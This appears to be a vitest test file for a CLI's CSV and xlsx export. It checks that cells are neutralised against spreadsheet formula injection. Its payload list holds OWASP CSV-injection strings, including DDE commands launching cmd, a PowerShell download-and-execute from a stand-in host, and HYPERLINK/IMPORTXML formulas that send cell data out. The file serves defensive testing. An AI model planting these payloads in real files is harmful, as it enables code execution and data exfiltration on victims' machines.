// CSV formula injection: a cell a spreadsheet would evaluate is written with a quote mark in
// front, in the decisions CSV and in the errors CSV, whatever follows the sign (a digit too:
// `-1+cmd|…` is still a formula); a plain number stays as it is. xlsx cells are typed strings,
// which a spreadsheet never evaluates. Payloads: the OWASP CSV-injection list, written here.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CsvReader, csvCell, formulaLike } from '../../cli/io/csv.js';
import { fenlei, REPO, scratch, TODAY, ZHEJIANG } from './helpers.js';

/** The OWASP CSV-injection payloads (and their common variants), hosts replaced by example.invalid. */
const OWASP = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget example.invalid/p)'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `-1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `=10+20+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://example.invalid/?leak="&A1&A2,"Error: please click for further information")`,
  `-2+3+HYPERLINK("http://example.invalid/","点击查看")`,
  `=IMPORTXML(CONCAT("http://example.invalid/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=IMAGE("http://example.invalid/x.png")`,
  `=WEBSERVICE("http://example.invalid/")`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
  `@cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `=1+1`,
  `-1.5e3+cmd|' /C calc'!A0`,
  `- 1`,
  `=`,
  `＝1+1`,
  `＋1+cmd|' /C calc'!A0`,
  `－1+cmd|' /C calc'!A0`,
  `＠SUM(1+9)`,
];

const PLAIN_NUMBERS = ['0', '3301', '-1', '-12.5', '+3', '1e5', '-1E-3', '.5', '-0.25', '7.'];

describe('csvCell', () => {
  it.each(OWASP.map((p) => [JSON.stringify(p), p]))('neutralises %s', (_name, payload) => {
    const r = new CsvReader();
    const cells = r.push(csvCell(payload) + '\r\n')[0]!.cells;
    expect(cells).toEqual([`'${payload}`]);
    expect(formulaLike(cells[0]!)).toBe(false);
  });

  it('leaves plain numbers, ordinary text and text with signs inside alone', () => {
    for (const n of PLAIN_NUMBERS) expect(csvCell(n)).toBe(n);
    for (const t of ['杭州振鑫童车有限公司', 'ZJ-0001', '1-2', 'a=b', '', '330110']) expect(csvCell(t)).toBe(t);
    expect(csvCell(-3)).toBe('-3');
  });
});

describe('eval output', () => {
  const dir = scratch('csv-injection');
  const register = join(dir, 'register.csv');
  const source = readFileSync(join(REPO, 'rules', 'examples', 'zhejiang', 'register.csv'), 'utf8').replace(/^\uFEFF/, '').trimEnd().split('\n');
  const header = source[0]!.split(',');
  const [ID, NAME, REGION, DATE] = ['id', 'name', 'region', 'date'].map((k) => header.indexOf(k));
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  // Row i of the register: the payload as id and name, in some rows as region (a warning) or as the date (a record error, for the errors CSV).
  const rows = OWASP.map((p, i) => {
    const cells = source[1 + (i % (source.length - 1))]!.split(',');
    cells[ID!] = `${p}#${i}`;
    cells[NAME!] = p;
    if (i % 2 === 0) cells[REGION!] = p;
    if (i % 3 === 0) cells[DATE!] = p;
    return cells.map(quote).join(',');
  });
  writeFileSync(register, [source[0], ...rows].join('\r\n') + '\r\n');

  it('no cell of the decisions CSV or the errors CSV is a formula; each payload is there, quoted', async () => {
    const out = join(dir, 'o.csv');
    const errors = join(dir, 'e.csv');
    const r = await fenlei(['eval', ZHEJIANG, register, '--out', out, '--errors', errors, '--today', TODAY]);
    expect(r.code, r.stderr).toBe(0);
    const read = (f: string) => {
      const reader = new CsvReader();
      return [...reader.push(readFileSync(f, 'utf8').replace(/^\uFEFF/, '')), ...reader.end()].map((x) => x.cells).slice(1);
    };
    const decisions = read(out);
    const errs = read(errors);
    expect(decisions).toHaveLength(OWASP.length);
    expect(errs).toHaveLength(OWASP.filter((_p, i) => i % 3 === 0).length);
    for (const row of [...decisions, ...errs]) for (const cell of row) expect(formulaLike(cell), cell).toBe(false);
    // Columns 编号 and 企业名称 (the register trims its cells).
    expect(decisions.map((row) => row[2])).toEqual(OWASP.map((p) => `'${p.trim()}`));
    expect(decisions.map((row) => row[1])).toEqual(OWASP.map((p, i) => `'${p.trim()}#${i}`));
    expect(errs.every((row) => row[1]!.startsWith("'") && row[2]!.startsWith("'"))).toBe(true);
  });

  it('xlsx: the payloads are string cells, never formulas', async () => {
    const out = join(dir, 'o.xlsx');
    const r = await fenlei(['eval', ZHEJIANG, register, '--out', out, '--today', TODAY]);
    expect(r.code, r.stderr).toBe(0);
    const { default: Excel } = await import('exceljs');
    const wb = new Excel.Workbook();
    await wb.xlsx.readFile(out);
    const sheet = wb.getWorksheet('判定结果')!;
    const names: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((c) => expect(c.type, String(c.value)).not.toBe(Excel.ValueType.Formula));
      names.push(row.getCell(3).value);
    });
    expect(names).toEqual(OWASP.map((p) => p.trim()));
  });
});
